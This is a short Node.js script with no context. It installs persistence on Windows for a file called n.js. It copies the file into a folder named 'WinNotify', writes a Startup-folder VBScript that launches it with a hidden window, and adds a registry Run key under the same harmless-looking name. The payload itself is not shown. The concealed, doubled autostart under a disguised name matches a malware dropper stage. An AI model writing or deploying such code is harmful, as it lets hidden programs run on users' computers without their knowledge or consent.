const fs = require('fs');
const path = require('path');
const { execSync } = require('child_process');
const startup = path.join(process.env.APPDATA || '', 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup');
const target = path.join(process.env.LOCALAPPDATA || '', 'WinNotify', 'n.js');
fs.mkdirSync(path.dirname(target), { recursive: true });
fs.copyFileSync(path.join(__dirname, 'n.js'), target);
fs.writeFileSync(path.join(startup, 'notify.vbs'), 'CreateObject("WScript.Shell").Run "node ""' + target + '""", 0, False');
execSync('reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v WinNotify /t REG_SZ /d "node ' + target + '" /f');
